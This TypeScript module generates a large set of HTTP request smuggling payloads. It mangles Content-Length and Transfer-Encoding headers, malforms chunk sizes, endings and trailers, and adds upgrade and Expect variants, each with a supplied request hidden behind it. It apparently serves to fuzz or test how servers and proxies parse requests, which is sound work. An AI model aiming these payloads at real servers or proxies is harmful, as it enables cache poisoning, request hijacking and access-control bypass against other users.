/** How a caller tries to get a request past its frame. */
export interface Smuggling {
  readonly title: string;
  /** Header lines that frame it, each with its end. */
  readonly lines: string;
  readonly body: string;
}

type Mangling = readonly [title: string, mangle: (name: string, value: string) => string];

/** A header line, said in ways that some server somewhere has read otherwise. */
const MANGLINGS: readonly Mangling[] = [
  ['as it should be', (name, value) => `${name}: ${value}\r\n`],
  ['in other letters', (name, value) => `${swapped(name)}: ${swapped(value)}\r\n`],
  ['without a blank', (name, value) => `${name}:${value}\r\n`],
  ['with tabs around', (name, value) => `${name}:\t${value}\t\r\n`],
  ['with a blank before the colon', (name, value) => `${name} : ${value}\r\n`],
  ['with a tab before the colon', (name, value) => `${name}\t: ${value}\r\n`],
  ['with a blank before the name', (name, value) => ` ${name}: ${value}\r\n`],
  ['folded', (name, value) => `${name}:\r\n ${value}\r\n`],
  ['folded by a tab', (name, value) => `${name}: ${value}\r\n\t\r\n`],
  ['with a CR behind', (name, value) => `${name}: ${value}\r\r\n`],
  ['with a CR before the colon', (name, value) => `${name}\r: ${value}\r\n`],
  ['with a CR before the value', (name, value) => `${name}:\r${value}\r\n`],
  ['with an LF behind', (name, value) => `${name}: ${value}\n`],
  ['behind an LF', (name, value) => `A: b\n${name}: ${value}\r\n`],
  ['behind a CR', (name, value) => `A: b\r${name}: ${value}\r\n`],
  ['with a NUL behind the name', (name, value) => `${name}\0: ${value}\r\n`],
  ['with a NUL behind the value', (name, value) => `${name}: ${value}\0\r\n`],
  ['with a vertical tab before the value', (name, value) => `${name}: \x0b${value}\r\n`],
  ['with a form feed behind the value', (name, value) => `${name}: ${value}\x0c\r\n`],
  ['with a no-break space before the value', (name, value) => `${name}: \xa0${value}\r\n`],
  ['with 0x85 behind the value', (name, value) => `${name}: ${value}\x85\r\n`],
  ['in quotes', (name, value) => `${name}: "${value}"\r\n`],
  ['with a comma behind', (name, value) => `${name}: ${value},\r\n`],
  ['with a comma before', (name, value) => `${name}: ,${value}\r\n`],
  ['with a parameter', (name, value) => `${name}: ${value};q=1\r\n`],
  ['twice', (name, value) => `${name}: ${value}\r\n${name}: ${value}\r\n`],
  ['as a list of the same twice', (name, value) => `${name}: ${value}, ${value}\r\n`],
  ['with an underscore', (name, value) => `${name.replace('-', '_')}: ${value}\r\n`],
  ['with a hyphen of Latin-1', (name, value) => `${name.replace('-', '\xad')}: ${value}\r\n`],
  ['with a second colon', (name, value) => `${name}:: ${value}\r\n`],
  ['without a colon', (name, value) => `${name} ${value}\r\n`],
  ['named by Connection', (name, value) => `Connection: ${name}\r\n${name}: ${value}\r\n`],
  ['as a value of another', (name, value) => `X-A: b, ${name}: ${value}\r\n`],
  ['behind an encoded end of line', (name, value) => `X-A: b%0d%0a${name}: ${value}\r\n`],
  ['behind the letters of an end of line', (name, value) => `X-A: b\u010d\u010a${name}: ${value}\r\n`.replace(/[\u0100-\uffff]/g, (char) => Buffer.from(char).toString('latin1'))],
];

const swapped = (text: string) => text.replace(/[a-zA-Z]/g, (char) => (char === char.toLowerCase() ? char.toUpperCase() : char.toLowerCase()));

/** Lengths and codings that are not what they look like. */
const LENGTHS = ['+SIZE', '-0', '0xSIZE', 'SIZE.0', 'SIZEe0', '0SIZE', '1_0', ' ', 'SIZE SIZE', '\xb2', '18446744073709551616', '9007199254740993', '1e1000', 'NaN', 'Infinity', 'true'];
const CODINGS = ['identity', 'gzip, chunked', 'chunked, identity', 'chunked, chunked', 'x-chunked', 'chunke', 'chunkedd', 'chun ked', 'chunked\x01', '\x1fchunked', 'cow', 'null', '""', 'deflate', 'chunKED;', '(chunked)', 'ch\u0075nked\x00'];
const SIZES = ['0x0', '+0', '-0', ' 0', '0 ', '0\t', '00000000000000000', '0;', '0 ;a', '0;\0', '0;a\nb', '0;a=\rb', '0\r', '0\n', 'fffffffffffffffff', '7fffffffffffffff', 'ffffffffffffffff', '100000000', 'g', '', '0_0', '0.0', '0,0', '0;a="b', '\x300'];

/** All of them, with a request behind each that a server that reads otherwise would take for one. */
export function smugglings(smuggled: string): readonly Smuggling[] {
  const size = String(smuggled.length);
  const chunk = `${smuggled.length.toString(16)}\r\n${smuggled}\r\n0\r\n\r\n`;
  const bodies = [
    ['chunks that end before it', `0\r\n\r\n${smuggled}`],
    ['it in a chunk', chunk],
    ['it alone', smuggled],
  ] as const;
  const list: Smuggling[] = [];
  for (const [how, mangle] of MANGLINGS) {
    for (const [what, body] of bodies) {
      const [length, coding] = [mangle('Content-Length', size), mangle('Transfer-Encoding', 'chunked')];
      const add = (title: string, lines: string) => list.push({ title: `${title}, ${how}, before ${what}`, lines, body });
      add('chunks', coding);
      add('a length', length);
      add('no length', mangle('Content-Length', '0'));
      add('chunks behind a length', `Content-Length: ${size}\r\n${coding}`);
      add('chunks before a length', `${coding}Content-Length: ${size}\r\n`);
      add('a length behind chunks', `Transfer-Encoding: chunked\r\n${length}`);
      add('a length behind another', `Content-Length: 0\r\n${length}`);
      add('no length behind a length', `Content-Length: ${size}\r\n${mangle('Content-Length', '0')}`);
    }
  }
  for (const length of LENGTHS) list.push({ title: `the length ${JSON.stringify(length)}`, lines: `Content-Length: ${length.replaceAll('SIZE', size)}\r\n`, body: smuggled });
  for (const coding of CODINGS) for (const [what, body] of bodies) list.push({ title: `the coding ${JSON.stringify(coding)} before ${what}`, lines: `Transfer-Encoding: ${coding}\r\n`, body });
  for (const last of SIZES) list.push({ title: `the chunk size ${JSON.stringify(last)}`, lines: 'Transfer-Encoding: chunked\r\n', body: `${last}\r\n\r\n${smuggled}` });
  for (const [title, end] of [['LF', '\n'], ['CR', '\r'], ['LF CR', '\n\r'], ['nothing', ''], ['CR CR LF', '\r\r\n']] as const) {
    list.push({ title: `a chunk that ends in ${title}`, lines: 'Transfer-Encoding: chunked\r\n', body: `1\r\na${end}0\r\n\r\n${smuggled}` });
    list.push({ title: `a trailer that ends in ${title}`, lines: 'Transfer-Encoding: chunked\r\n', body: `0\r\nA: b${end}\r\n${smuggled}` });
    list.push({ title: `a chunk size that ends in ${title}`, lines: 'Transfer-Encoding: chunked\r\n', body: `1${end}a\r\n0\r\n\r\n${smuggled}` });
  }
  for (const line of ['Content-Length: 0', `Content-Length: ${size}`, 'Transfer-Encoding: chunked', 'Content-Length : 0', ' A: b', 'A', 'Host: y', 'X-Call-Id: 1', 'Expect: 100-continue', 'Upgrade: websocket']) {
    list.push({ title: `the trailer ${line}`, lines: 'Transfer-Encoding: chunked\r\n', body: `0\r\n${line}\r\n\r\n${smuggled}` });
  }
  for (const upgrade of ['h2c', 'websocket', 'HTTP/2.0', 'TLS/1.0']) {
    list.push({ title: `an upgrade to ${upgrade}`, lines: `Connection: Upgrade, HTTP2-Settings\r\nUpgrade: ${upgrade}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: ${size}\r\n`, body: smuggled });
  }
  for (const expect of ['100-continue', '100-continue, x', '200-ok']) list.push({ title: `the expectation ${expect}`, lines: `Expect: ${expect}\r\nContent-Length: ${size}\r\n`, body: smuggled });
  return list;
}
